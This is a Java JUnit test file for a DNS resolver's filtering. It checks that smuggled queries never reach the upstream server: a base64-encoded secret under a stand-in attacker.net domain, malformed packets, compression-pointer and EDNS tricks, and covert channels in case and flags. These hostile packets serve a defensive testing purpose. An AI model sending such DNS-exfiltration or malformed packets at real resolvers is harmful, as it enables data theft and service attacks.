package io.sallyport.resolver.running;

import static io.sallyport.resolver.packet.Packet.A;
import static io.sallyport.resolver.packet.Packet.header;
import static io.sallyport.resolver.packet.Packet.query;
import static org.assertj.core.api.Assertions.assertThat;

import io.sallyport.resolver.packet.Packet;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.xbill.DNS.Message;
import org.xbill.DNS.Section;

/** A client that wants out: whatever it sends, the upstream hears only of names it may ask for. */
class SmugglingTest {
    private static final int DS = 43;
    private static final int NULL = 10;
    private static final String SECRET = "c2VjcmV0.attacker.net";

    private Running running;

    @BeforeEach
    void start() throws IOException {
        running = new Running(query -> query.reply(query.good()));
    }

    @AfterEach
    void stop() throws IOException {
        running.close();
    }

    private static Arguments row(String what, Packet packet) {
        return Arguments.of(what, packet);
    }

    private static Packet counts(int qd, int an, int ns, int ar) {
        return header(0x0100, qd, an, ns, ar).name("www.example.com").u16(A).u16(1);
    }

    private static Packet raw(String hexName) {
        return header(0x0100, 1, 0, 0, 0).hex(hexName).u16(A).u16(1);
    }

    /**
     * Each carries a name, or octets, that must not get out (notes of CVE classes in the names).
     */
    static Stream<Arguments> smuggled() {
        Packet secret = query(SECRET, A);
        byte[] dotted = "www.example.com".getBytes(StandardCharsets.US_ASCII);
        return Stream.of(
                row("B1 denied name", secret),
                row("B2 denied name, type DS", query(SECRET, DS)),
                row("B2 denied name, type NULL", query(SECRET, NULL)),
                row("B2 denied name, type TXT", query(SECRET, 16)),
                row("B2 denied name, type ANY (RFC 8482)", query(SECRET, 255)),
                row("A3 RFC 9619 second question", counts(2, 0, 0, 0).name(SECRET).u16(A).u16(1)),
                row(
                        "A5 RFC 8906 opcode UPDATE",
                        header(0x2900, 1, 0, 0, 0).name(SECRET).u16(A).u16(1)),
                row(
                        "A5 RFC 1996 opcode NOTIFY",
                        header(0x2100, 1, 0, 0, 0).name("www.example.com").u16(6).u16(1)),
                row(
                        "A6 CVE-2026-5946 class ANY",
                        header(0x0100, 1, 0, 0, 0).name(SECRET).u16(A).u16(255)),
                row(
                        "A6 class CHAOS of an allowed name",
                        header(0x0100, 1, 0, 0, 0).name("www.example.com").u16(16).u16(3)),
                row(
                        "A7 answer section",
                        counts(1, 1, 0, 0).name(SECRET).hex("0001 0001 00000000 0004 01020304")),
                row(
                        "A7 additional record",
                        counts(1, 0, 0, 1).name(SECRET).hex("0010 0001 00000000 0002 0161")),
                row("A8 octets behind the question", counts(1, 0, 0, 0).name(SECRET)),
                row("A8 a message behind the message", counts(1, 0, 0, 0).bytes(secret.octets())),
                row("A9 RFC 9267 pointer in the question", raw("03777777c014")),
                row("A9 pointer to itself", raw("c00c")),
                row("A9 label type 0x41 (RFC 2673)", raw("4108ffffffff00")),
                row(
                        "A10 CVE-2026-42004 option beyond its record",
                        counts(1, 0, 0, 1).opt(1232, 0, 0, "fde9ffff", "deadbeef")),
                row(
                        "A10 second OPT",
                        counts(1, 0, 0, 2).opt(1232, 0, 0).opt(1232, 0, 0, "fde90004deadbeef")),
                row(
                        "A11 EDNS version 1",
                        header(0x0100, 1, 0, 0, 1).name(SECRET).u16(A).u16(1).opt(1232, 1, 0)),
                row(
                        "A14 AXFR (RFC 5936)",
                        header(0x0100, 1, 0, 0, 0).name("example.com").u16(252).u16(1)),
                row(
                        "A14 TKEY of an allowed name",
                        header(0x0100, 1, 0, 0, 0).name("www.example.com").u16(249).u16(1)),
                row(
                        "A17 RD=0 of an allowed name",
                        header(0, 1, 0, 0, 0).name("www.example.com").u16(A).u16(1)),
                row(
                        "N14 dots inside one label",
                        header(0x0100, 1, 0, 0, 0).label(dotted).u8(0).u16(A).u16(1)),
                row(
                        "N14 NUL before an allowed suffix's look-alike",
                        header(0x0100, 1, 0, 0, 0)
                                .label(new byte[] {'x', 0, '.'})
                                .label("example.com".getBytes(StandardCharsets.US_ASCII))
                                .u8(0)
                                .u16(A)
                                .u16(1)),
                row("suffix without its dot", query("notexample.com", A)),
                row("allowed name as a prefix", query("www.example.com.attacker.net", A)),
                row("N13 RFC 6303 reverse name", query("1.0.0.10.in-addr.arpa", 12)),
                row("N12 RFC 7686 onion", query("secret.onion", A)),
                row("ancestor of an allowed name", query("com", 2)));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("smuggled")
    void nothingGetsToTheUpstream(String what, Packet packet) throws IOException {
        byte[] udp = running.ask(Running.CLIENT, packet.octets(), 5000);
        byte[] tcp = running.askTcp(Running.CLIENT, packet.octets());

        assertThat(udp).as("%s, UDP", what).isNotEmpty();
        assertThat(tcp).as("%s, TCP", what).isNotEmpty();
        assertThat(new Message(udp).getSection(Section.ANSWER)).hasSizeLessThanOrEqualTo(1);
        assertThat(running.asked()).isEmpty();
        assertThat(running.pins(Running.CLIENT)).isEmpty();
    }

    @Test
    void strangersAndPendingNetworksGetNothingUpstreamWhateverTheyAsk() throws IOException {
        for (String client : new String[] {Running.STRANGER, Running.PENDING}) {
            int rcode = client.equals(Running.PENDING) ? 3 : 5;
            for (int type : new int[] {A, 28, 16, DS, 255, 12}) {
                assertThat(running.ask(client, query("www.example.com", type)).getRcode())
                        .isEqualTo(rcode);
            }
        }
        assertThat(running.asked()).isEmpty();
    }

    /** E7, U9: RFC 7871, 7830, 5001, 8145; the covert channel of case, flags and sizes. */
    @Test
    void upstreamSeesNothingOfTheClientsMessageButTheName() throws IOException {
        String options =
                "0008000700011800c00002"
                        + "00030000"
                        + "fde90004deadbeef"
                        + "000c0010"
                        + "41".repeat(16);
        Packet loud =
                header(0x0130, 1, 0, 0, 1)
                        .name("wWw.ExAmPlE.cOm")
                        .u16(A)
                        .u16(1)
                        .opt(4096, 0, 0, options);
        Packet plain = header(0x0100, 1, 0, 0, 0).name("ftp.example.com").u16(A).u16(1);
        running.ask(Running.CLIENT, loud);
        running.ask(Running.CLIENT, plain);

        byte[] first = running.upstream.queries().getFirst().octets;
        byte[] second = running.upstream.queries().getLast().octets;
        assertThat(first).hasSameSizeAs(second);
        assertThat(new String(first, StandardCharsets.ISO_8859_1)).doesNotContain("\u00de\u00ad");
        assertThat(Arrays.copyOfRange(first, first.length - 11, first.length))
                .as("our OPT")
                .isEqualTo(Arrays.copyOfRange(second, second.length - 11, second.length));
        assertThat(running.asked()).containsExactly("www.example.com.", "ftp.example.com.");
    }
}
